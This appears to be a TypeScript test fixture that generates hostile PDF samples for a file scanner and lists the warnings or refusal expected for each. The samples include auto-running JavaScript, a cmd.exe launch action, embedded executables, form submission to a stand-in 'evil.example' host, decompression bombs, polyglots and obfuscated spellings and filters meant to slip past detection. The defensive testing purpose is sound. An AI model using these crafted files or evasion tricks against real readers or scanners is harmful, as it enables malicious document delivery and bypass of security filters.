import { deflateRawSync, deflateSync } from 'node:zlib'
import { joined, mark, type HostileFile } from './hostile-file.ts'

const page = '3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n'
const tail = 'trailer\n<< /Root 1 0 R >>\n%%EOF\n'

function pdf(catalog: string, more: string | Buffer = '', pages = 1): Buffer {
  return joined(
    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog ${catalog} >>\nendobj\n`,
    page.repeat(pages),
    more,
    tail,
  )
}

/** The same words, packed as newer files pack their objects; `dictionary` is added to that of the stream. */
function packed(inside: string | Buffer, dictionary = '', isObjects = true): Buffer {
  const part = deflateSync(Buffer.from(inside))
  const type = isObjects ? '/Type /ObjStm ' : ''
  return joined(
    `9 0 obj\n<< ${type}${dictionary} /Filter /FlateDecode /Length ${part.length} >>\nstream\n`,
    part,
    '\nendstream\nendobj\n',
  )
}

/** A part that holds objects and is packed as its head says, or is not. */
function packedAs(filter: string, inside: string | Buffer): Buffer {
  return joined(
    `9 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${filter} >>\nstream\n`,
    inside,
    '\nendstream\nendobj\n',
  )
}

/** Bytes as five signs for every four of them. */
function ascii85(bytes: Buffer): string {
  const whole = Buffer.concat([bytes, Buffer.alloc((4 - (bytes.length % 4)) % 4)])
  const groups = Array.from({ length: whole.length / 4 }, (_, group) => {
    const value = whole.readUInt32BE(group * 4)
    return [4, 3, 2, 1, 0]
      .map((place) => String.fromCharCode(33 + (Math.floor(value / 85 ** place) % 85)))
      .join('')
  })
  return `${groups.join('').slice(0, Math.ceil((bytes.length * 5) / 4))}~>`
}

const js = `<< /S /JavaScript /JS (app.alert\\('${mark}'\\)) >>`

const active: [what: string, words: string, warnings: string[]][] = [
  ['runs a script when opened', `/OpenAction ${js}`, ['javascript', 'opens-by-itself']],
  ['runs a script by another spelling', `/OpenAction << /S /J#61v#61Script /J#53 (1) >>`, ['javascript']],
  ['has scripts by name', `/Names << /JavaScript << /Names [(a) ${js}] >> >>`, ['javascript']],
  ['runs a script on every page', `/AA << /O ${js} >>`, ['javascript', 'opens-by-itself']],
  ['starts a program', '/OpenAction << /S /Launch /F (cmd.exe) >>', ['starts-a-program']],
  ['holds another file', '/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>', ['embedded-file']],
  ['holds a program', `/AF 5 0 R /X << /Type /EmbeddedFile /Subtype /exe >>`, ['embedded-file']],
  ['holds a form with a program', '/AcroForm << /XFA 5 0 R >>', ['form-with-program']],
  ['sends what was typed', '/A << /S /SubmitForm /F (https://evil.example) >>', ['leads-outside']],
  ['opens another file', '/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share) >>', ['leads-outside']],
  ['takes in data', '/A << /S /ImportData /F (a.fdf) >>', ['leads-outside']],
  ['leads to an address', '/A << /S /URI /URI (https://evil.example) >>', ['leads-outside']],
  ['plays a film', '/Annots [<< /Subtype /RichMedia >>]', ['media']],
]

const rest: HostileFile[] = [
  { what: 'a locked PDF', bytes: () => pdf('/Encrypt 5 0 R'), expected: 'refused' },
  {
    what: 'a PDF locked in a packed part',
    bytes: () => pdf('', packed('/Encrypt 5 0 R')),
    expected: 'refused',
  },
  { what: 'a PDF locked by another spelling', bytes: () => pdf('/#45ncrypt 5 0 R'), expected: 'refused' },
  { what: 'a PDF that was cut off', bytes: () => pdf('').subarray(0, 60), expected: 'refused' },
  { what: 'a PDF that is only its first line', bytes: () => joined('%PDF-1.7\n'), expected: 'refused' },
  { what: 'a PDF of 51 pages', bytes: () => pdf('', '', 51), expected: 'refused' },
  { what: 'a PDF of 51 packed pages', bytes: () => pdf('', packed(page.repeat(51)), 0), expected: 'refused' },
  { what: 'a page that becomes a PDF', bytes: () => joined(`<html>${mark}`, pdf('')), expected: 'refused' },
  {
    what: 'a PDF that becomes a program',
    bytes: () => joined(pdf(''), 'MZ', Buffer.alloc(2000)),
    expected: 'refused',
  },
  {
    what: 'a PDF that becomes a page',
    bytes: () => joined(pdf(''), '<html>', Buffer.alloc(2000)),
    expected: 'refused',
  },
  { what: 'a PDF that is an archive too', bytes: () => pdf('', `PK\x03\x04${mark}`), expected: [] },
  { what: 'a PDF that is a page too', bytes: () => pdf('', `<html><script>${mark}</script>`), expected: [] },
  { what: 'a PDF with a bomb', bytes: () => pdf('', packed(Buffer.alloc(40_000_000))), expected: 'refused' },
  {
    what: 'a PDF with thirty bombs',
    bytes: () => pdf('', Buffer.concat(Array.from({ length: 30 }, () => packed(Buffer.alloc(15_000_000))))),
    expected: 'refused',
  },
  {
    what: 'a PDF that changes its mind',
    bytes: () => joined(pdf(''), `1 0 obj\n<< /OpenAction ${js} >>\nendobj\n`, tail),
    expected: ['javascript'],
  },
  {
    what: 'a PDF that says what it packs by another spelling',
    bytes: () => pdf('', packed(`/OpenAction ${js}`, '/Type /Obj#53tm', false)),
    expected: ['javascript'],
  },
  {
    what: 'a PDF that hides a script before a bomb',
    bytes: () => pdf('', packed(joined(`/OpenAction ${js}`, Buffer.alloc(17_000_000)))),
    expected: 'refused',
  },
  {
    what: 'a PDF that names a stream in a text',
    bytes: () => pdf('', packed(`/OpenAction ${js}`, '/Pad (stream)')),
    expected: ['javascript'],
  },
  {
    what: 'a PDF whose packed part has a long head',
    bytes: () => pdf('', packed(`/OpenAction ${js}`, `/Pad (${'x'.repeat(900)})`)),
    expected: ['javascript'],
  },
]

const action = `/OpenAction ${js}`

/** Objects that are packed in other ways: undone where that is simple, and said where it is not. */
const otherwisePacked: HostileFile[] = [
  ...[
    ['in hexadecimal digits', '/Filter /ASCIIHexDecode', `${Buffer.from(action).toString('hex')}>`],
    ['in signs of 85', '/Filter /ASCII85Decode', ascii85(Buffer.from(action))],
    ['twice', '/Filter [/A85 /FlateDecode]', ascii85(deflateSync(Buffer.from(action)))],
    ['without a name', '/Filter /FlateDecode', deflateSync(Buffer.from(action))],
  ].map(([how, filter, inside]) => ({
    what: `a PDF that packs a script ${String(how)}`,
    bytes: () => pdf('', packedAs(String(filter), inside ?? '')),
    expected: ['javascript', 'opens-by-itself'],
  })),
  ...[
    ['by an old way', '/Filter /LZWDecode', 'x'],
    ['in a way that nobody knows', '/Filter /Mystery', 'x'],
    ['in a way that is written elsewhere', '/Filter 7 0 R', 'x'],
    [
      'with a parameter',
      '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>',
      deflateSync(Buffer.from('x')),
    ],
    ['and says so twice', '/Filter /FlateDecode /Pad (/Filter /AHx)', deflateSync(Buffer.from('x'))],
    ['and breaks it', '/Filter /FlateDecode', deflateRawSync(Buffer.from(action))],
    [
      'behind nine beginnings',
      `/Pad (${'stream '.repeat(9)}) /Filter /FlateDecode`,
      deflateSync(Buffer.from(action)),
    ],
  ].map(([how, filter, inside]) => ({
    what: `a PDF that packs ${String(how)}`,
    bytes: () => pdf('', packedAs(String(filter), inside ?? '')),
    expected: ['not-looked-into'],
  })),
  {
    what: 'a PDF whose packed part does not end',
    bytes: () =>
      joined(
        `%PDF-1.7\n${page}${tail}`,
        packedAs('/Filter /FlateDecode', deflateSync(Buffer.from(action))).subarray(0, -17),
        '\n%%EOF\n',
      ),
    expected: ['javascript', 'opens-by-itself'],
  },
]

/** What makes a search for parts look at everything again and again. */
const slow: HostileFile[] = [
  {
    what: 'a PDF of a million beginnings',
    bytes: () => pdf('', `${'stream '.repeat(1_400_000)}endstream`),
    expected: [],
  },
  {
    what: 'a PDF of half a million false parts',
    bytes: () => pdf('', `${'/ObjStm stream\n'.repeat(600_000)}endstream`),
    expected: ['not-looked-into'],
  },
  {
    what: 'a PDF of a hundred thousand empty parts',
    bytes: () => pdf('', '/ObjStm stream\nendstream\n'.repeat(100_000)),
    expected: 'refused',
  },
]

/** PDFs that do something, that are more than they seem, or that are none. */
export const hostilePdfs: HostileFile[] = [
  ...active.map(([what, words, expected]) => ({
    what: `a PDF that ${what}`,
    bytes: () => pdf(words),
    expected,
  })),
  ...active.map(([what, words, expected]) => ({
    what: `a packed PDF that ${what}`,
    bytes: () => pdf('', packed(words)),
    expected,
  })),
  ...rest,
  ...otherwisePacked,
  ...slow,
]
